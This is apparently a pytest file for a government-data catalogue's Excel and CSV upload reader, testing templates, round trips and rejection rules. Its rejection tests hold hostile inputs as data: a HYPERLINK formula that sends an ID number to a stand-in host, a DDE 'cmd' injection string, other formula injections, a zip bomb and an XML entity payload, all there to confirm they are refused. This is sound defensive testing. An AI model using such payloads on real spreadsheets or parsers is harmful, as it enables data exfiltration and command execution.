"""Excel template and upload reading: the template's validations, round trips, and every rejection
rule, each checked not to echo the cell values (ID numbers, names) it rejected."""

from __future__ import annotations

import io
import json
import os
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
import xlsxwriter

from authops.core.errors import InvalidInput
from authops.platform.catalog import excel
from authops.platform.catalog.csvload import load_definitions
from authops.platform.catalog.excel import IngestRejected, build_template, read_csv_upload, read_upload

ID_X, ID_2 = "11010519491231002X", "320505199203082240"  # valid GB 11643 numbers, never to be echoed
NAME = "张三丰"
DEFS = {d.code: d for d in load_definitions("/work/shared/catalog")}


def _template(code: str, **kw) -> bytes:
    d = DEFS[code]
    return build_template(code=d.code, name_zh=d.name_zh, name_en=d.name_en, schema=d.schema, **kw)


def _filled(code: str, rows: list[list], *, header: list[list] | None = None) -> bytes:
    """Fill like a user: open the template (or a blank workbook with `header`) in openpyxl, type rows."""
    if header is None:
        wb = openpyxl.load_workbook(io.BytesIO(_template(code)))
        ws = wb[excel.DATA_SHEET]
    else:
        wb = openpyxl.Workbook()
        ws = wb.active
        for h in header:
            ws.append(h)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _xlsxwriter(rows: list[list]) -> bytes:
    """A workbook as xlsxwriter writes it (shared strings; strings kept as strings, even '=...')."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False})
    ws = wb.add_worksheet(excel.DATA_SHEET)
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is not None:
                ws.write(r, c, v)
    wb.close()
    return buf.getvalue()


def _rejected(fn, *args, rule: str, secrets=(ID_X, ID_2, NAME), **kw) -> dict:
    with pytest.raises(IngestRejected) as info:
        fn(*args, **kw)
    exc = info.value
    assert isinstance(exc, InvalidInput) and exc.code == "ingest_rejected"
    text = exc.message + json.dumps(exc.details, ensure_ascii=False)
    for s in secrets:
        assert s not in text, f"the report echoed {s!r}"
    assert {e["rule"] for e in exc.details["errors"]} == {rule}, exc.details
    assert exc.details["error_count"] >= len(exc.details["errors"]) > 0
    return exc.details


HOUSEHOLD = DEFS["household_population"].schema
TAX = DEFS["enterprise_tax"].schema
HH_ZH = [f.name_zh for f in HOUSEHOLD.fields]
HH_EN = [f.name for f in HOUSEHOLD.fields]


def _person(i: int = 0, idn: str = ID_X) -> list:
    f = HOUSEHOLD.field
    return [idn, "男", date(1949, 12, 31), f("occupation_category").enum[i], "已婚", "汉族", "生存"]


# --- template -------------------------------------------------------------------------------

def _validations(ws) -> dict[str, object]:
    return {str(dv.sqref).split(":")[0]: dv for dv in ws.data_validations.dataValidation}


def test_household_template_has_headers_lists_and_instructions():
    wb = openpyxl.load_workbook(io.BytesIO(_template("household_population")))
    assert wb.sheetnames == [excel.DATA_SHEET, excel.INFO_SHEET, excel.LIST_SHEET]
    ws = wb[excel.DATA_SHEET]
    assert [c.value for c in ws[1]] == HH_ZH and [c.value for c in ws[2]] == HH_EN
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].number_format == "@" and ws.column_dimensions["C"].number_format == "yyyy-mm-dd"
    dv = _validations(ws)
    assert dv["A3"].type == "textLength" and dv["A3"].formula1 == "18"
    assert dv["C3"].type == "date"
    ethnicity = HH_EN.index("ethnicity")
    col = openpyxl.utils.get_column_letter(ethnicity + 1)
    lst = dv[f"{col}3"]
    assert lst.type == "list" and lst.formula1.startswith("'_lists'!$")
    enum_cols = [openpyxl.utils.get_column_letter(i + 1) for i, f in enumerate(HOUSEHOLD.fields) if f.enum]
    assert all(dv[f"{c}3"].formula1.startswith("'_lists'!$") for c in enum_cols)  # no 255-char inline limit
    lists = wb[excel.LIST_SHEET]
    assert lists.sheet_state == "hidden"
    listed = {c[0].value: [x.value for x in c[1:] if x.value] for c in lists.iter_cols()}
    assert listed["ethnicity"] == list(HOUSEHOLD.fields[ethnicity].enum)
    assert "GB 11643" in dv["A1"].prompt and "必填" in dv["A1"].prompt and "L4" in dv["A1"].prompt
    assert dv["A3"].showInputMessage and dv["A3"].showErrorMessage
    info = [[x for x in r if x is not None] for r in wb[excel.INFO_SHEET].iter_rows(values_only=True)]
    text = json.dumps(info, ensure_ascii=False)
    for f in HOUSEHOLD.fields:
        assert any(r[1:3] == [f.name_zh, f.name] for r in info if len(r) > 3)
    for phrase in ("公式", "1,048,574", "元", "整个文件都会被拒收", "whole file is rejected"):
        assert phrase in text


def test_tax_template_validates_money_flags_and_dates():
    ws = openpyxl.load_workbook(io.BytesIO(_template("enterprise_tax")))[excel.DATA_SHEET]
    dv = _validations(ws)
    kinds = {f.name: openpyxl.utils.get_column_letter(i + 1) for i, f in enumerate(TAX.fields)}
    assert dv[kinds["vat_amount"] + "3"].type == "decimal"
    assert ws.column_dimensions[kinds["vat_amount"]].number_format == "0.00"
    flag = dv[kinds["has_violation_record"] + "3"]
    assert flag.type == "list" and flag.formula1 == '"是,否"'
    assert dv[kinds["tax_period"] + "3"].type == "date"
    assert dv[kinds["uscc"] + "3"].formula1 == "18" and "GB 32100" in dv[kinds["uscc"] + "1"].prompt


def test_settlements_template_covers_all_83_fields():
    schema = DEFS["medical_insurance_settlements"].schema
    assert len(schema.fields) >= 80
    wb = openpyxl.load_workbook(io.BytesIO(_template("medical_insurance_settlements", lang="en")))
    ws = wb[excel.DATA_SHEET]
    assert [c.value for c in ws[2]] == schema.names
    dv = _validations(ws)
    by = {f.name: openpyxl.utils.get_column_letter(i + 1) for i, f in enumerate(schema.fields)}
    assert dv[by["age"] + "3"].type == "whole" and dv[by["age"] + "3"].operator == "greaterThanOrEqual"
    assert dv[by["pooled_fund_payment_ratio"] + "3"].type == "decimal"
    assert dv[by["settled_at"] + "3"].type == "date"
    assert ws.column_dimensions[by["settled_at"]].number_format == "yyyy-mm-dd hh:mm:ss"
    assert dv[by["id_number"] + "1"].prompt.startswith("Type: person identifier")
    assert len(dv[by["id_number"] + "3"].prompt) <= 255
    with pytest.raises(InvalidInput):
        _template("enterprise_tax", lang="fr")


def test_every_catalogue_resource_gets_a_template_its_reader_accepts():
    for d in DEFS.values():
        data = build_template(code=d.code, name_zh=d.name_zh, name_en=d.name_en, schema=d.schema)
        _rejected(read_upload, data, d.schema, rule="empty")  # well-formed, header recognised, no rows


# --- round trips ----------------------------------------------------------------------------

def test_filled_template_comes_back_as_strings():
    rows = [_person(0), [None] * 7, _person(1, ID_2), ["  ", None, None, None, None, None, None]]
    rows[2][2] = datetime(1992, 3, 8, 13, 30)  # a date field keeps the day a date format shows
    batch = read_upload(_filled("household_population", rows), HOUSEHOLD)
    t = batch.table
    assert t.column_names == HH_EN and t.num_rows == 2
    assert t.column("id_number").to_pylist() == [ID_X, ID_2]
    assert t.column("birth_date").to_pylist() == ["1949-12-31", "1992-03-08"]
    assert batch.first_row == 3 and batch.row_numbers.to_pylist() == [3, 5] and batch.row_of(1) == 5
    assert "数据 data" in batch.source


def test_money_dates_flags_and_leading_zeros():
    d = DEFS["enterprise_tax"]
    rows = [["某某有限公司", "0135010000010000Y3", date(2024, 3, 1), 1234.5, 100, "是", 0.1],
            ["某某有限公司", "91350100M000100Y3X", "2024-04", "1234.56", -12.5, "否", 1e16],
            ["某某有限公司", "91350100M000100Y3X", "2024-05", 0.1 + 0.2, 1234.5600000000001, None, 2.5]]
    t = read_upload(_filled(d.code, rows), d.schema).table
    assert t.column("uscc").to_pylist() == ["0135010000010000Y3"] + ["91350100M000100Y3X"] * 2
    assert t.column("tax_period").to_pylist() == ["2024-03-01", "2024-04", "2024-05"]
    assert t.column("vat_amount").to_pylist() == ["1234.5", "1234.56", "0.3"]  # as Excel shows them
    assert t.column("corporate_income_tax_amount").to_pylist() == ["100", "-12.5", "1234.56"]
    assert t.column("has_violation_record").to_pylist() == ["是", "否", None]
    assert t.column("invoiced_amount").to_pylist() == ["0.1", "1e+16", "2.5"]


def test_datetimes_and_shared_strings_from_another_writer():
    schema = DEFS["medical_insurance_settlements"].schema
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("Sheet1")
    dt_fmt = wb.add_format({"num_format": "yyyy/m/d h:mm"})
    ws.write_row(0, 0, ["结算ID", "证件号码", "结算时间", "开始日期", "年龄"])
    ws.write_string(1, 0, "000123")
    ws.write_string(1, 1, ID_X)
    ws.write_datetime(1, 2, datetime(2024, 5, 6, 7, 8, 9), dt_fmt)
    ws.write_datetime(1, 3, datetime(2024, 5, 6), wb.add_format({"num_format": "yyyy\"年\"m\"月\"d\"日\""}))
    ws.write_number(1, 4, 42)
    wb.close()
    batch = read_upload(buf.getvalue(), schema)
    assert batch.first_row == 2
    row = batch.table.slice(0, 1).to_pylist()[0]
    assert (row["settlement_id"], row["id_number"], row["settled_at"], row["start_date"], row["age"]) == \
        ("000123", ID_X, "2024-05-06 07:08:09", "2024-05-06", "42")
    assert row["clearing_agency"] is None and batch.table.column_names == schema.names


def test_reordered_columns_chinese_header_only():
    order = [4, 0, 6, 1, 3, 2, 5]
    header = [[HH_ZH[i] for i in order]]
    rows = [[_person(0)[i] for i in order]]
    batch = read_upload(_filled("", rows, header=header), HOUSEHOLD)
    assert batch.first_row == 2 and batch.table.column_names == HH_EN
    assert batch.table.slice(0, 1).to_pylist()[0]["id_number"] == ID_X


def test_english_header_only_and_optional_columns_left_out():
    batch = read_upload(_filled("", [[ID_X, "女"]], header=[["ID_Number", " sex "]]), HOUSEHOLD)
    row = batch.table.to_pylist()[0]
    assert row["id_number"] == ID_X and row["sex"] == "女" and row["ethnicity"] is None


def _hand_made(sheet: str, *, date1904: bool = False, prefix: str = "") -> bytes:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    p = f"{prefix}:" if prefix else ""
    nsdecl = ns.replace("xmlns=", f"xmlns:{prefix}=") if prefix else ns
    parts = {
        "xl/workbook.xml": f'<workbook {ns} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                           f'relationships"><workbookPr date1904="{int(date1904)}"/><sheets>'
                           '<sheet name="Hidden" sheetId="1" state="hidden" r:id="rId1"/>'
                           '<sheet name="Data" sheetId="2" r:id="rId2"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                      'relationships"><Relationship Id="rId1" Target="worksheets/s1.xml"/>'
                                      '<Relationship Id="rId2" Target="/xl/worksheets/s2.xml"/></Relationships>',
        "xl/styles.xml": f'<styleSheet {ns}><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
                         '</styleSheet>',
        "xl/sharedStrings.xml": f'<sst {ns}><si><t>证件号码</t></si><si><r><t>性</t></r><r><t>别</t></r>'
                                '<rPh><t>xingbie</t></rPh></si><si><t>出生日期</t></si>'
                                f'<si><t>{ID_X}</t></si><si><t xml:space="preserve"> 男 </t></si></sst>',
        "xl/worksheets/s1.xml": f"<worksheet {ns}><sheetData/></worksheet>",
        "xl/worksheets/s2.xml": f"<{p}worksheet {nsdecl}><{p}sheetData>{sheet}</{p}sheetData></{p}worksheet>",
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text.replace("<c ", f"<{p}c ").replace("<v>", f"<{p}v>").replace("</v>", f"</{p}v>")
                       .replace("</c>", f"</{p}c>").replace("<row", f"<{p}row").replace("</row>", f"</{p}row>")
                       if name.endswith("s2.xml") else text)
    return buf.getvalue()


def test_a_hand_made_workbook_with_prefixes_rich_text_and_1904_dates():
    sheet = ('<row r="1"><c t="s"><v>0</v></c><c t="s"><v>1</v></c><c t="s"><v>2</v></c></row>'
             '<row r="4"><c r="A4" t="s"><v>3</v></c><c r="C4" s="1"><v>0</v></c><c r="B4" t="s"><v>4</v></c></row>')
    for prefix in ("", "x"):
        batch = read_upload(_hand_made(sheet, date1904=True, prefix=prefix), HOUSEHOLD)
        assert batch.source == "xlsx sheet 'Data'" and batch.row_numbers.to_pylist() == [4]
        row = batch.table.to_pylist()[0]
        assert (row["id_number"], row["sex"], row["birth_date"]) == (ID_X, "男", "1904-01-01")


# --- rejections -----------------------------------------------------------------------------

def test_a_formula_cell_is_rejected_without_its_text():
    rows = [_person(0), _person(1, f'=HYPERLINK("http://x.example/?id={ID_2}","{NAME}")')]
    d = _rejected(read_upload, _filled("household_population", rows), HOUSEHOLD, rule="formula")
    assert d["errors"][0]["row"] == 4 and d["errors"][0]["column"] == "id_number"


@pytest.mark.parametrize("text", [f"=1+{ID_2}", f"+cmd|'/C calc {NAME}'!A0", f"-HYPERLINK({ID_2})",
                                  f"@SUM({ID_2})", f"\t=A1&{NAME}", f"-({ID_2})"])
def test_formula_like_text_is_rejected(text):
    rows = [HH_ZH, HH_EN, [ID_X, "男"], [ID_X, "女", None, None, None, text]]
    d = _rejected(read_upload, _xlsxwriter(rows), HOUSEHOLD, rule="formula")
    assert d["errors"] == [{"row": 4, "column": "ethnicity", "rule": "formula", "message": d["errors"][0]["message"]}]
    csv = "\n".join(",".join(f'"{v}"' if v else "" for v in r) for r in
                    [HH_ZH, [ID_X, "女", "", "", "", text.replace('"', ""), ""]]).encode()
    assert _rejected(read_csv_upload, csv, HOUSEHOLD, rule="formula")["errors"][0]["row"] == 2


def test_errors_are_listed_up_to_100_and_all_counted():
    rows = [HH_ZH] + [[ID_X, "男", None, None, None, f"=A{i}"] for i in range(150)]
    d = _rejected(read_upload, _xlsxwriter(rows), HOUSEHOLD, rule="formula")
    assert d["error_count"] == 150 and len(d["errors"]) == 100 and d["errors"][0]["row"] == 2


def test_signed_numbers_and_phone_numbers_are_not_formulas():
    rows = [HH_ZH, [ID_X, "-12.5", None, "+86 139", "-", "@"], [ID_X, -12.5]]
    t = read_upload(_xlsxwriter(rows), HOUSEHOLD).table
    assert t.column("sex").to_pylist() == ["-12.5", "-12.5"]
    assert t.column("occupation_category").to_pylist()[0] == "+86 139"


def test_random_bytes_and_oversized_files():
    junk = os.urandom(50 * 1024 * 1024)
    d = _rejected(read_upload, junk, HOUSEHOLD, rule="file_format")
    assert len(json.dumps(d)) < 2000
    _rejected(read_upload, junk, HOUSEHOLD, rule="file_size", max_bytes=10 * 1024 * 1024)
    _rejected(read_csv_upload, junk, HOUSEHOLD, rule="file_size", max_bytes=10 * 1024 * 1024)
    _rejected(read_upload, b"\xd0\xcf\x11\xe0" + junk[:4096], HOUSEHOLD, rule="file_format")  # .xls / encrypted


def test_zips_that_are_not_workbooks_or_are_bombs():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("hello.txt", ID_X)
    _rejected(read_upload, buf.getvalue(), HOUSEHOLD, rule="file_format")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (40 * 1024 * 1024))
    assert len(bomb.getvalue()) < 200 * 1024
    d = _rejected(read_upload, bomb.getvalue(), HOUSEHOLD, rule="file_format")
    assert "zip bomb" in d["errors"][0]["message"]
    good = _filled("household_population", [_person()])
    _rejected(read_upload, good[: len(good) // 2], HOUSEHOLD, rule="file_format")  # truncated


def test_a_dtd_in_the_sheet_is_refused():
    sheet = '<row r="1"><c t="s"><v>0</v></c></row>'
    data = _hand_made(sheet)
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w") as dst:
        for i in src.infolist():
            body = src.read(i)
            if i.filename.endswith("s2.xml"):
                body = b'<!DOCTYPE x [<!ENTITY a "' + ID_X.encode() + b'">]>' + body.replace(b"<v>0", b"<v>&a;0")
            dst.writestr(i, body)
    _rejected(read_upload, buf.getvalue(), HOUSEHOLD, rule="file_format")


def test_too_many_rows():
    rows = [_person(i % 3) for i in range(6)]
    d = _rejected(read_upload, _filled("household_population", rows), HOUSEHOLD, rule="row_limit", max_rows=5)
    assert "5" in d["errors"][0]["message"]
    csv = ("\n".join([",".join(HH_EN)] + [ID_X + ",,,,,,"] * 6)).encode()
    _rejected(read_csv_upload, csv, HOUSEHOLD, rule="row_limit", max_rows=5)


def test_header_problems_are_named_not_the_values():
    def up(header, rows=([ID_X, "男"],)):
        return read_upload(_filled("", list(rows), header=[header]), HOUSEHOLD)
    d = _rejected(up, ["证件号码", "性别", "备注"], rule="header")
    assert "C ('备注')" in d["errors"][0]["message"] and d["errors"][0]["column"] == "C"
    d = _rejected(up, ["性别", "民族"], [["男", "汉族"]], rule="header")
    assert "id_number" in d["errors"][0]["message"]
    d = _rejected(up, ["证件号码", "性别", "sex"], rule="header")
    assert "appears twice" in d["errors"][0]["message"]
    d = _rejected(up, ["证件号码", "性别"], [[ID_X, "男", NAME]], rule="header")
    assert d["errors"][0]["column"] == "C" and d["errors"][0]["row"] == 2
    # a sheet pasted without its header: row 1 is data, and must not be quoted back
    _rejected(up, [ID_X, NAME, "1990-01-01"], rule="header")
    _rejected(up, ["证件号码", NAME + "1990"], rule="header")


def test_empty_sheets():
    _rejected(read_upload, _filled("household_population", [[" "] * 7, [None, ""]]), HOUSEHOLD, rule="empty")
    _rejected(read_csv_upload, b"", HOUSEHOLD, rule="empty")
    _rejected(read_csv_upload, ",".join(HH_ZH).encode() + b"\n\n,,,,,,\n", HOUSEHOLD, rule="empty")


# --- csv ------------------------------------------------------------------------------------

def test_csv_with_bom_both_header_rows_and_empty_lines():
    lines = [",".join(HH_ZH), ",".join(HH_EN), f"{ID_X},男,1949-12-31,,,,", "", ",,,,,,",
             f'{ID_2},"女",1992-03-08,"a, ""b""\nc",,,']
    batch = read_csv_upload(b"\xef\xbb\xbf" + "\r\n".join(lines).encode(), HOUSEHOLD)
    assert batch.table.column("id_number").to_pylist() == [ID_X, ID_2]
    assert batch.table.column("occupation_category").to_pylist() == [None, 'a, "b"\nc']
    assert batch.first_row == 3 and batch.row_numbers.to_pylist() == [3, 6] and batch.source == "csv"


def test_csv_reordered_english_header():
    batch = read_csv_upload(f"sex,id_number\n女,{ID_X}\n".encode(), HOUSEHOLD)
    assert batch.first_row == 2 and batch.table.slice(0, 1).to_pylist()[0]["id_number"] == ID_X


def test_csv_in_gbk_names_the_line_not_the_bytes():
    text = ",".join(HH_ZH) + "\n" + f"{ID_X},男\n{ID_2},女\n"
    data = text.encode("utf-8").replace(f"{ID_2},女".encode(), f"{ID_2},{NAME}".encode("gbk"))
    d = _rejected(read_csv_upload, data, HOUSEHOLD, rule="encoding",
                  secrets=(ID_X, ID_2, NAME, repr(NAME.encode("gbk"))[2:-1], NAME.encode("gbk").hex()))
    assert d["errors"][0]["row"] == 3 and "line 3" in d["errors"][0]["message"]


def test_csv_rows_with_the_wrong_number_of_fields():
    data = f"id_number,sex\n{ID_X},男\n{ID_2},女,{NAME}\n".encode()
    d = _rejected(read_csv_upload, data, HOUSEHOLD, rule="file_format")
    assert d["errors"][0]["row"] == 3
    _rejected(read_csv_upload, f"证件号码,备注\n{ID_X},x\n".encode(), HOUSEHOLD, rule="header")


def test_batches_feed_the_validator():
    validate = pytest.importorskip("authops.platform.catalog.validate").validate
    batch = read_upload(_filled("household_population", [_person(0), _person(2, ID_2)]), HOUSEHOLD)
    table = validate(HOUSEHOLD, batch.table, first_row=batch.first_row)
    assert table.column("birth_date").to_pylist()[0] == date(1949, 12, 31)
    assert table.column("id_number").to_pylist() == [ID_X, ID_2]
